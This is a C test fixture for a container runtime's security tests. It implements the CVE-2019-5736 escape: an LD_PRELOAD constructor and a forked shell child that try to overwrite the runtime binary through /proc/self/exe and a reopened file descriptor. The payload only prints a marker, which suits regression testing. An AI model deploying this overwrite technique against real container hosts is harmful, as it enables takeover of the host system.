/*
 * evil_preload.so — CVE-2019-5736 from inside the runtime's own process, for the
 * e2e tests (tests/e2e/security.bats).
 *
 * The container's image controls LD_PRELOAD and the dynamic loader. When the
 * runtime binary is made to run as a container process (exec of
 * "/proc/self/exe"), the loader of the rootfs maps this object into it and the
 * constructor, now code of the attacker running in the runtime's process:
 *   1. opens /proc/self/exe for writing (ETXTBSY on a plain host binary that is
 *      running; any success is logged and the payload written);
 *   2. keeps a read-only descriptor of /proc/self/exe and forks a child that
 *      becomes the rootfs's shell and, once the runtime process exits, reopens
 *      /proc/self/fd/N for writing and writes the payload: the published
 *      exploit's second stage.
 * Everything goes to /tmp/preload.log in the container. The child writes
 * "child done" when it gives up (after about 5 s) or succeeds.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char payload[] = "#!/bin/sh\necho WARD-E2E-CVE-2019-5736-PAYLOAD\n";

__attribute__((format(printf, 1, 2))) static void
say(const char *fmt, ...)
{
	char buf[512];
	va_list ap;
	int fd, n;

	fd = open("/tmp/preload.log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n > 0)
		(void)!write(fd, buf, (size_t)n < sizeof(buf) ? (size_t)n : sizeof(buf) - 1);
	(void)close(fd);
}

static void
attack_write(int fd, const char *how)
{
	ssize_t w = pwrite(fd, payload, sizeof(payload) - 1, 0);

	if (w > 0)
		say("WROTE %zd bytes via %s\n", w, how);
	else
		say("write via %s: %s\n", how, strerror(errno));
}

__attribute__((constructor)) static void
evil(void)
{
	char exe[256], script[1024];
	pid_t parent = getpid();
	ssize_t n;
	int fd, keep;

	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	say("constructor in pid %d, exe %s\n", (int)parent, exe);

	fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		attack_write(fd, "open(/proc/self/exe, O_WRONLY)");
		(void)close(fd);
	} else {
		say("open /proc/self/exe O_WRONLY: %s\n", strerror(errno));
	}

	keep = open("/proc/self/exe", O_RDONLY);
	if (keep < 0) {
		say("open /proc/self/exe O_RDONLY: %s\n", strerror(errno));
		return;
	}
	if (fork() != 0) {
		(void)close(keep);
		return;
	}
	/*
	 * Child: let the caller's exec return and outlive the runtime process. It
	 * must stop running the runtime's image itself (a process executing a file
	 * keeps it busy), so, like the published exploit's second stage, it becomes
	 * another program that holds the descriptor: the rootfs's shell, retrying
	 * the reopen for writing ("1<>" opens O_RDWR without truncating) until the
	 * runtime process has exited.
	 */
	(void)setsid();
	fd = open("/dev/null", O_RDWR);
	if (fd >= 0) {
		(void)dup2(fd, 0);
		(void)dup2(fd, 1);
		(void)dup2(fd, 2);
	}
	snprintf(script, sizeof(script),
		 "i=0; while [ $i -lt 500 ]; do i=$((i+1));"
		 " if ( printf '%%s' \"$PAYLOAD\" 1<> /proc/self/fd/%d ) 2>/tmp/preload.err; then"
		 " echo \"WROTE via reopen of /proc/self/fd/%d after the runtime exited\" >> "
		 "/tmp/preload.log; break; fi;"
		 " if ! grep -q busy /tmp/preload.err; then"
		 " echo \"reopen after exit: $(cat /tmp/preload.err)\" >> /tmp/preload.log; break; "
		 "fi;"
		 " sleep 0.01; done; echo 'child done' >> /tmp/preload.log",
		 keep, keep);
	(void)setenv("PAYLOAD", payload, 1);
	(void)unsetenv("LD_PRELOAD");
	execl("/bin/sh", "sh", "-c", script, (char *)NULL);
	say("exec /bin/sh: %s\n", strerror(errno));
	say("child done\n");
	_exit(0);
}
